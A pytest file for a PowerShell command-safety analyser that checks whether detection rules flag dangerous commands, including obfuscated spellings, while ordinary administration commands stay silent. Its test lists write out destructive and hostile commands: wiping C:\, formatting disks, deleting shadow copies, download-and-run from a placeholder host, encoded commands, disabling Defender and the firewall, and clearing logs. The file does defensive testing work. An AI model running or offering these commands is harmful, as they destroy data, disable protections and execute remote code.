"""PowerShell: each family of dangerous commands is found, under aliases and however it is put together."""

from __future__ import annotations

import base64

import pytest
from suture_safety import analyse
from suture_safety.rulebook import data

RULES = data("powershell.yaml")["rules"]


def _found(text: str) -> list[tuple[str, str]]:
    return [(one.rule_id, one.severity) for one in analyse(text, "powershell").findings]


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: str(rule["id"]))
def test_a_rule_fires_and_keeps_silent_as_its_examples_say(rule: dict[str, str]) -> None:
    name = f"powershell.{rule['id']}"
    assert (name, rule["severity"]) in _found(rule["fires"])
    assert name not in [found for found, _ in _found(rule["silent"])]


@pytest.mark.parametrize(
    ("command", "rule", "severity"),
    [
        ("rm -r -fo C:\\", "powershell.remove-system-root", "error"),
        ("ri -Recurse -Force C:\\Windows", "powershell.remove-system-root", "error"),
        ("del C:\\Windows\\System32 -Recurse", "powershell.remove-system-root", "error"),
        ("Remove-Item -Path 'C:\\' -Rec -Fo", "powershell.remove-system-root", "error"),
        ("$d='C:\\Windows'; Remove-Item $d -Recurse -Force", "powershell.remove-system-root", "error"),
        ("& ('Remove'+'-Item') -Recurse -Force C:\\", "powershell.remove-system-root", "error"),
        ('& "Re`move-Item" -Recurse C:\\Windows', "powershell.remove-system-root", "error"),
        ("Clear-Disk -Number 0 -RemoveData -Confirm:$false", "powershell.disk", "error"),
        ("Format-Volume D", "powershell.disk", "error"),
        ("vssadmin delete shadows /all", "powershell.shadow-copies", "error"),
        ("wmic shadowcopy delete", "powershell.shadow-copies", "error"),
        ("iwr http://x/a.ps1 | iex", "powershell.download-and-run", "error"),
        ("Invoke-Expression (iwr http://x/a).Content", "powershell.download-and-run", "error"),
        ("i`ex (irm http://x)", "powershell.download-and-run", "error"),
        ("& ([scriptblock]::Create((irm http://x)))", "dynamic.unresolved-command", "warning"),
        (
            "$w=New-Object Net.WebClient; iex $w.DownloadString('http://x')",
            "powershell.download-and-run",
            "error",
        ),
        ("Start-BitsTransfer http://x/a C:\\a; & C:\\a", "powershell.download", "warning"),
        ("powershell -EncodedCommand cgBtACAALQByACAAQwA6AFwA", "powershell.encoded-command", "error"),
        ("powershell.exe -e ZQBjAGgAbwAgADEA", "powershell.encoded-command", "error"),
        ("pwsh -enc ZQBjAGgAbwAgADEA", "powershell.encoded-command", "error"),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0=')))",
            "dynamic.eval",
            "warning",
        ),
        ("Set-ExecutionPolicy Unrestricted", "powershell.execution-policy", "warning"),
        ("powershell -ep bypass -File a.ps1", "powershell.execution-policy", "warning"),
        ("Set-MpPreference -DisableRealtimeMonitoring 1", "powershell.antivirus-off", "error"),
        ("Add-MpPreference -ExclusionPath C:\\", "powershell.antivirus-off", "error"),
        ("Uninstall-WindowsFeature Windows-Defender", "powershell.antivirus-off", "error"),
        ("sc.exe stop WinDefend", "powershell.antivirus-off", "error"),
        ("Stop-Service WinDefend", "powershell.antivirus-off", "error"),
        ("netsh advfirewall set allprofiles state off", "powershell.firewall-off", "error"),
        ("Set-NetFirewallProfile -Enabled False", "powershell.firewall-off", "error"),
        (
            "New-NetFirewallRule -Direction Inbound -Action Allow -RemoteAddress Any",
            "powershell.firewall-off",
            "error",
        ),
        ("wevtutil cl Security", "powershell.logs-erased", "error"),
        ("Clear-EventLog System", "powershell.logs-erased", "error"),
        ("auditpol /clear", "powershell.security-settings", "error"),
        ("bcdedit /set {default} recoveryenabled no", "powershell.shadow-copies", "error"),
        (
            'reg add HKLM\\SOFTWARE\\Policies\\"Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1',
            "powershell.antivirus-off",
            "error",
        ),
        ("Add-LocalGroupMember -Group Administrators -Member x", "powershell.accounts", "error"),
        ("Disable-WindowsOptionalFeature -Online -FeatureName x", "powershell.packages", "warning"),
        ('cmd /c "rd /s /q C:\\"', "powershell.remove-system-root", "error"),
        ("iex $input", "dynamic.eval", "warning"),
        ("$x='ie'+'x'; & $x (irm http://x)", "powershell.download-and-run", "error"),
        ("[System.IO.File]::Delete('C:\\Windows\\a')", "powershell.remove-protected", "error"),
        ("[IO.Directory]::Delete('C:\\Windows',$true)", "powershell.remove-protected", "error"),
    ],
)
def test_a_dangerous_command_is_found_in_every_spelling(command: str, rule: str, severity: str) -> None:
    assert (rule, severity) in _found(command)


@pytest.mark.parametrize(
    "command",
    [
        "Restart-Service W3SVC",
        "Get-Service | Where-Object Status -eq Running",
        "Copy-Item C:\\app\\a.conf C:\\app\\a.conf.bak",
        "Set-Content C:\\app\\a.conf 'x'",
        "Test-Path C:\\app",
        "(Get-Content C:\\app\\a) -replace 'a','b' | Set-Content C:\\app\\a",
        "Start-Service app",
        "New-Item -ItemType Directory C:\\app\\x",
        "Write-Output 'Remove-Item -Recurse C:\\'",
        "# iex (irm http://x)\nGet-Date",
    ],
)
def test_an_ordinary_command_has_neither_errors_nor_warnings(command: str) -> None:
    assert [one for one in _found(command) if one[1] != "info"] == []


@pytest.mark.parametrize("option", ["-e", "-ec", "-enc", "-EncodedCommand", "/enc"])
@pytest.mark.parametrize("shell", ["powershell", "powershell.exe", "pwsh"])
def test_an_encoded_command_is_found_and_read(shell: str, option: str) -> None:
    code = base64.b64encode("Clear-EventLog Security".encode("utf-16-le")).decode()
    found = [rule for rule, _ in _found(f"{shell} {option} {code}")]
    assert "powershell.encoded-command" in found
    assert "powershell.logs-erased" in found


@pytest.mark.parametrize(
    "text",
    [
        "function F {\n  COMMAND\n}\nF\n",
        "if ($a) {\n  COMMAND\n}\n",
        "foreach ($a in 1..3) {\n  COMMAND\n}\n",
        "try {\n  COMMAND\n} catch { }\n",
        "Start-Job {\n  COMMAND\n}\n",
        "1 | ForEach-Object {\n  COMMAND\n}\n",
        "powershell -Command {\n  COMMAND\n}\n",
    ],
)
def test_a_command_is_found_at_its_line_wherever_it_stands(text: str) -> None:
    report = analyse(text.replace("COMMAND", "Format-Volume D"), "powershell")
    assert 2 in [one.line for one in report.findings if one.rule_id == "powershell.disk"]
